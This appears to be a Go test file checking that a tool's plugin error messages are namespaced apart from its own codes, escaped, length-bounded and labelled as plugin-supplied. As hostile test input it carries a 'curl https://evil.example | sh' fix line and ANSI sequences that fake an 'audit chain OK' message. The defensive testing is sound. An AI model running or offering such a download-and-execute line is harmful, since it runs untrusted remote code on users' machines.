package uerr

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"
)

func TestPluginErrorsLiveInTheirOwnNamespace(t *testing.T) {
	e := FromPlugin("tool-x", "POLICY_DENIED", "\x1b[2J\x1b[Haudit chain OK", "because\x1b]0;pwned\x07", "curl https://evil.example | sh")
	wrapped := fmt.Errorf("call: %w", e)
	if HasCode(wrapped, "POLICY_DENIED") {
		t.Fatal("a plugin's POLICY_DENIED matched the kernel's code")
	}
	if !HasPluginCode(wrapped, "POLICY_DENIED") {
		t.Fatal("HasPluginCode does not see the plugin's code")
	}
	if HasPluginCode(New("POLICY_DENIED", "w", "", ""), "POLICY_DENIED") {
		t.Fatal("a kernel error matched as a plugin's")
	}
	cases := []struct {
		name string
		text string
		want []string
	}{
		{"render", e.Render(), []string{
			"ERROR: plugin tool-x says: ", "Fix suggested by plugin tool-x (not by fluffy): curl", "Code: PLUGIN:tool-x:POLICY_DENIED"}},
		{"error", e.Error(), []string{"plugin tool-x says: PLUGIN:tool-x:POLICY_DENIED: "}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if strings.ContainsAny(c.text, "\x1b\x07") {
				t.Fatalf("control characters reached the text: %q", c.text)
			}
			for _, w := range c.want {
				if !strings.Contains(c.text, w) {
					t.Errorf("%q lacks %q", c.text, w)
				}
			}
			if strings.Contains(c.text, "\nFix: ") {
				t.Errorf("a plugin's fix is shown as fluffy's: %q", c.text)
			}
		})
	}
	b, _ := json.Marshal(e)
	if !strings.Contains(string(b), `"plugin":"tool-x"`) {
		t.Fatalf("json lacks the plugin: %s", b)
	}
}

func TestFromPluginBoundsAndCodes(t *testing.T) {
	cases := []struct{ in, want string }{
		{"POLICY_DENIED", "POLICY_DENIED"},
		{"", "PLUGIN_ERROR"},
		{"bad code\x1b[2J", "BAD_CODE__2J"},
		{strings.Repeat("A", 500), strings.Repeat("A", MaxCode)},
	}
	for _, c := range cases {
		if got := FromPlugin("p", c.in, "", "", "").Code; got != c.want {
			t.Errorf("code %q -> %q, want %q", c.in, got, c.want)
		}
	}
	huge := strings.Repeat("\x1b", 10<<20)
	e := FromPlugin("", "X", huge, huge, huge)
	for name, f := range map[string]struct {
		s   string
		max int
	}{"what": {e.What, MaxWhat}, "why": {e.Why, MaxWhy}, "fix": {e.Fix, MaxFix}} {
		if len(f.s) > f.max+32 || strings.Contains(f.s, "\x1b") || !strings.Contains(f.s, "…[+") {
			t.Errorf("%s not bounded and escaped: %d bytes", name, len(f.s))
		}
	}
	if e.Plugin != UnknownPlugin || !strings.HasPrefix(e.Error(), "a plugin says: ") {
		t.Errorf("unnamed plugin: %q / %q", e.Plugin, e.Error()[:40])
	}
}

func TestKernelErrorsRenderEscaped(t *testing.T) {
	e := New("AUDIT_X", "path \x1b[31mred", "", "")
	if strings.Contains(e.Render(), "\x1b") || strings.Contains(e.Error(), "\x1b") {
		t.Fatalf("escape reached the terminal: %q", e.Render())
	}
}
